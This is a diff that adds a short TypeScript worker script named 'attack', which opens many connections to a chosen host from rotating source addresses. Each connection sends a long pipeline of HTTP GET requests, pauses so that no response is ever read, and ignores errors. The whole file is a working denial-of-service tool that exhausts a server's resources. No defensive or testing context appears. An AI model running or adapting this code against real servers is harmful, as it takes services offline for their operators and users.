@@ -1,0 +1,26 @@
+import { connect } from 'node:net'
+import { workerData } from 'node:worker_threads'
+
+/** What the readers ask for, and from which addresses. */
+export interface SilentReaders {
+  readonly hostname: string
+  readonly port: number
+  readonly path: string
+  /** Each connection sends so many at once. */
+  readonly requests: number
+  readonly connections: number
+  readonly addresses: readonly string[]
+}
+
+/** Runs as a worker: connections that send all their requests and never read an answer. */
+function attack({ hostname, port, path, requests, connections, addresses }: SilentReaders): void {
+  const pipeline = `GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n\r\n`.repeat(requests)
+  for (let index = 0; index < connections; index++) {
+    const localAddress = addresses[index % addresses.length]!
+    const socket = connect({ host: hostname, port, localAddress }, () => socket.write(pipeline))
+    socket.pause()
+    socket.on('error', () => undefined)
+  }
+}
+
+attack(workerData as SilentReaders)
